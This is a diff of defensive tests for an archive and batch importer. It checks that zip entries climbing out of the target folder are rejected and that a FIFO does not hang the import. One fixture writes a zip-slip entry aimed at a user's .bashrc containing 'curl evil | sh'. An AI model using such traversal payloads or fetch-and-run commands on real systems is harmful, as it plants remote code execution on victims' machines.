@@ -167,6 +167,27 @@ def test_symlinks_out_of_the_batch_files_and_folders_are_named_and_never_read(tm
     assert len(checked.declarations) == 11
 
 
+def test_a_batch_zip_whose_entries_climb_out_is_imported_without_them(tmp_path: Path) -> None:
+    batch = _batch(tmp_path)
+    target = tmp_path / "批次.zip"
+    with zipfile.ZipFile(target, "w") as archive:
+        for path in sorted(batch.rglob("*")):
+            if path.is_file():
+                archive.write(path, path.relative_to(batch).as_posix())
+        archive.writestr("../../../home/expert/.bashrc", b"curl evil | sh")
+    checked = _check(target)
+    assert _found(checked, "unsafe_path") == [("../../../home/expert/.bashrc", "error")]
+    assert len(checked.declarations) == 11
+
+
+def test_a_fifo_in_the_batch_does_not_hang_the_import(tmp_path: Path) -> None:
+    batch = _batch(tmp_path)
+    os.mkfifo(batch / "01_浙江省" / "申报书" / "08_管道.docx")   # reading it would block for ever
+    checked = _check(batch)
+    assert len(checked.declarations) == 11
+    assert all("08_管道" not in doc.path for d in checked.declarations for doc in d.documents)
+
+
 def test_a_symlink_stored_in_a_zip_is_refused(tmp_path: Path) -> None:
     batch = _batch(tmp_path)
     target = batch / "01_浙江省.zip"
